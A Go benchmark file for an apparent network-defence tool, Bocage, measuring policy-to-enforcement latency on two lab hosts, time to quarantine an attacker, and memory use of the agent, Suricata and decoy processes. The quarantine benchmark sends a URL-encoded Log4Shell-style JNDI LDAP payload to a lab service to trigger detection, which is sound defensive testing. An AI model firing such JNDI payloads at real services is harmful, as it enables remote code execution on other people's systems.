package e2e

import (
	"bufio"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"bocage.dev/bocage"
	"bocage.dev/bocage/api/client"
	"bocage.dev/bocage/host"
)

// quantiles reports the median and the 99th percentile in milliseconds.
func quantiles(b *testing.B, name string, samples []time.Duration) {
	slices.Sort(samples)
	at := func(q float64) float64 {
		return float64(samples[min(len(samples)-1, int(q*float64(len(samples))))].Microseconds()) / 1000
	}
	b.ReportMetric(at(0.5), name+"-p50-ms")
	b.ReportMetric(at(0.99), name+"-p99-ms")
	b.ReportMetric(float64(len(samples)), name+"-samples")
}

func (s *site) client() *client.Client {
	c, err := client.New(client.Config{Socket: filepath.Join(s.dir, "h1", "run", "api.sock")})
	s.must(err)
	return c
}

// hostsSince waits until every host enforces a generation above one, and returns
// when the last of them began to.
func (s *site) hostsSince(c *client.Client, above uint64) (time.Time, uint64) {
	s.t.Helper()
	kind, _ := bocage.KindNamed("Host")
	var last time.Time
	var generation uint64
	deadline := time.Now().Add(20 * time.Second)
	tick := time.NewTicker(2 * time.Millisecond)
	defer tick.Stop()
	for {
		objects, _, err := c.List(s.t.Context(), kind, client.ListOptions{})
		s.must(err)
		last, generation = time.Time{}, 0
		behind := false
		for _, object := range objects {
			h := object.(*bocage.Host)
			behind = behind || h.Status.Generation <= above
			generation = max(generation, h.Status.Generation)
			if h.Status.Since.After(last) {
				last = h.Status.Since
			}
		}
		if !behind {
			return last, generation
		}
		if time.Now().After(deadline) {
			s.t.Fatalf("no generation above %d within 20 s", above)
		}
		<-tick.C
	}
}

// BenchmarkRootApplyToEnforced measures, 200 times and on two hosts, the time
// from a declaration to the moment at which the last host's kernel enforces it:
// by the command line, its own start included, and by the API alone.
func BenchmarkRootApplyToEnforced(b *testing.B) {
	s := newSite(b)
	s.enforce("closed")
	c := s.client()
	const changing = `apiVersion: bocage.dev/v1
kind: Application
metadata: {name: cache, namespace: shop}
spec:
  workload: {matchLabels: {app: cache}}
  provides: [{name: redis, port: 6379, to: {matchLabels: {app: api}}}, {name: spare, port: %d, to: {matchLabels: {app: api}}}]
`
	kind, _ := bocage.KindNamed("Application")
	for b.Loop() {
		_, generation := s.hostsSince(c, 0)
		var viaCommand, viaAPI []time.Duration
		for i := range 200 {
			begun := time.Now()
			s.ok(fmt.Sprintf(changing, 7000+i), "apply", "-f", "-")
			since, now := s.hostsSince(c, generation)
			viaCommand, generation = append(viaCommand, since.Sub(begun)), now
		}
		for i := range 200 {
			patch := map[string]any{"spec": map[string]any{"provides": []map[string]any{
				{"name": "redis", "port": 6379, "to": map[string]any{"matchLabels": map[string]string{"app": "api"}}},
				{"name": "spare", "port": 8000 + i, "to": map[string]any{"matchLabels": map[string]string{"app": "api"}}},
			}}}
			begun := time.Now()
			_, err := c.Patch(b.Context(), kind, "shop", "cache", "", patch, client.WriteOptions{})
			s.must(err)
			since, now := s.hostsSince(c, generation)
			viaAPI, generation = append(viaAPI, since.Sub(begun)), now
		}
		quantiles(b, "command", viaCommand)
		quantiles(b, "api", viaAPI)
	}
}

// BenchmarkRootAttackToQuarantine measures the time from an exploit request to the
// moment at which the last host's kernel refuses the attacker.
func BenchmarkRootAttackToQuarantine(b *testing.B) {
	s := newSite(b)
	s.enforce("closed")
	c := s.client()
	conditions, _ := bocage.KindNamed("ThreatCondition")
	for b.Loop() {
		var samples []time.Duration
		for i := range 20 {
			_, generation := s.hostsSince(c, 0)
			begun := time.Now()
			ctx, cancel := context.WithTimeout(b.Context(), time.Second)
			_, err := s.lab.Get(ctx, "shop/web", "shop/api", 8080, "/search?q=%24%7Bjndi%3Aldap%3A%2F%2F10.77.0.66%2F"+strconv.Itoa(i)+"%7D", nil)
			cancel()
			if err == nil {
				b.Fatal("the exploit was answered")
			}
			since, after := s.hostsSince(c, generation)
			samples = append(samples, since.Sub(begun))
			objects, _, err := c.List(b.Context(), conditions, client.ListOptions{})
			s.must(err)
			for _, object := range objects {
				_, err := c.Delete(b.Context(), conditions, "", object.Meta().Name, client.WriteOptions{})
				s.must(err)
			}
			s.hostsSince(c, after)
			s.await(10*time.Second, "web passes again", func() error { return s.get(b.Context(), time.Second) })
		}
		quantiles(b, "quarantine", samples)
	}
}

// BenchmarkRootMemory reports the memory of everything that Bocage runs on the
// lab's two hosts under load, as proportional set size.
func BenchmarkRootMemory(b *testing.B) {
	s := newSite(b)
	s.enforce("closed")
	for b.Loop() {
		begun, err := s.lab.Load()
		s.must(err)
		s.await(time.Minute, "1,000 orders have filled caches and tables", func() error {
			load, err := s.lab.Load()
			if err == nil && load.OK < begun.OK+1000 {
				err = fmt.Errorf("%d orders", load.OK-begun.OK)
			}
			return err
		})
		for _, name := range []string{"h1", "h2"} {
			b.ReportMetric(mebibytes(b, s.nodes[name].Process.Pid), map[string]string{"h1": "controller+agent-MiB", "h2": "agent-MiB"}[name])
			b.ReportMetric(mebibytes(b, s.engine(name)), name+"-suricata-MiB")
			b.ReportMetric(s.decoys(b, name), name+"-decoys-MiB")
		}
	}
}

// decoys sums the processes in a host's decoy namespace.
func (s *site) decoys(b *testing.B, name string) float64 {
	namespaces, err := host.Namespaces()
	s.must(err)
	var sum float64
	for _, ns := range namespaces {
		if strings.HasPrefix(ns, "bocage-"+name+"-") && strings.HasSuffix(ns, "-decoys") {
			pids, err := host.Pids(ns)
			s.must(err)
			for _, pid := range pids {
				sum += mebibytes(b, pid)
			}
		}
	}
	return sum
}

// mebibytes is a process's proportional set size.
func mebibytes(b *testing.B, pid int) float64 {
	file, err := os.Open(fmt.Sprintf("/proc/%d/smaps_rollup", pid))
	if err != nil {
		b.Fatal(err)
	}
	defer file.Close()
	lines := bufio.NewScanner(file)
	for lines.Scan() {
		if fields := strings.Fields(lines.Text()); len(fields) > 1 && fields[0] == "Pss:" {
			kib, err := strconv.ParseFloat(fields[1], 64)
			if err != nil {
				b.Fatal(err)
			}
			return kib / 1024
		}
	}
	b.Fatalf("process %d tells no Pss", pid)
	return 0
}
